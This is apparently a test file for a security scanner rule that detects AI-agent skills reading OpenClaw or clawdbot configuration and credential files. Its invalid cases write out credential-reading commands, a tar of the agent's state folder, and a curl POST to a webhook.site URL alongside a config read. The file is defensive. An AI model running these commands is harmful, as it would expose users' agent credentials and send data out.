import { agentConfigRead } from '../../../src/scan/rules/agent-config-read.ts';
import { testRule } from '../rule-tester.ts';
import { doc, py, sh } from './common/skills.ts';

testRule(agentConfigRead, {
  valid: [
    { name: 'reads its own skill folder under ~/.openclaw/skills', files: sh('cat ~/.openclaw/skills/notes/template.md') },
    { name: 'writes notes into the workspace', files: sh('echo "$1" >> ~/.openclaw/workspace/notes/today.md') },
    { name: 'mentions the config path in prose only', files: { 'SKILL.md': '---\nname: t\ndescription: d\n---\n\nOpenClaw keeps its config in ~/.openclaw/openclaw.json.\n' } },
    { name: 'reads a local json config', files: py("import json\ncfg = json.load(open('config.json'))") },
  ],
  invalid: [
    { name: 'cat of the gateway config', files: sh('cat ~/.openclaw/openclaw.json'), errors: [{ messageId: 'read', severity: 'medium' }] },
    { name: 'python reads legacy clawdbot credentials', files: py("import os\ndata = open(os.path.expanduser('~/.clawdbot/credentials/oauth.json')).read()"), errors: [{ messageId: 'read' }] },
    { name: 'tar of the whole state folder', files: sh('tar czf /tmp/b.tgz ~/.openclaw'), errors: [{ messageId: 'read' }] },
    {
      name: 'read in a skill that posts data to a webhook',
      files: { ...sh('cat ~/.openclaw/openclaw.json > /tmp/c'), ...sh('curl -X POST -d "hello" https://webhook.site/abc', 'scripts/send.sh') },
      errors: [{ messageId: 'readWithSend', severity: 'high' }],
    },
    { name: 'under a teaching heading it weighs less', files: doc('cat ~/.openclaw/openclaw.json', { heading: 'Examples of malicious patterns' }), errors: [{ messageId: 'read', severity: 'info' }] },
  ],
});
